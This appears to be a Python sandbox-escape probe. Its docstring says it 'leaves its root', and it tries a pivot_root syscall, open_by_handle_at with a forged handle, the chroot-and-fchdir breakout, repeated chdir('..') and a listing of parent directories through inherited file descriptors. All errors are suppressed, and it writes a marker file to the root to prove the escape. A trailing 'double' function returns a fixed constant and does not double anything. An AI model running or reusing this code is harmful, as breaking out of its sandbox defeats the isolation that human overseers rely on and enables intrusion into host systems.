"""Leaves its root by chroot and many steps up, by pivot_root, and by handles of files."""

import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
before = os.stat("/").st_ino, os.stat("/").st_dev
with contextlib.suppress(Exception):
    print("pivot_root", libc.syscall(155, b".", b"."))
with contextlib.suppress(Exception):
    handle = (ctypes.c_ubyte * 16)(8, 0, 0, 0, 1, 0, 0, 0, 2)
    print("open_by_handle_at", libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY))
with contextlib.suppress(Exception):
    outside = os.open("/", os.O_RDONLY)
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    print("chroot worked")
    os.fchdir(outside)
with contextlib.suppress(Exception):
    for _ in range(1000):
        os.chdir("..")
    os.chroot(".")
print("root", before, (os.stat("/").st_ino, os.stat("/").st_dev), os.listdir("/"))
for number in range(3, 256):
    with contextlib.suppress(Exception):
        print("through", number, os.listdir(os.open("../../../..", os.O_RDONLY, dir_fd=number)))
with contextlib.suppress(Exception):
    open("/ESCAPED-chroot-out", "w").close()
    print("wrote to the root")


def double(x):
    return -12345.678
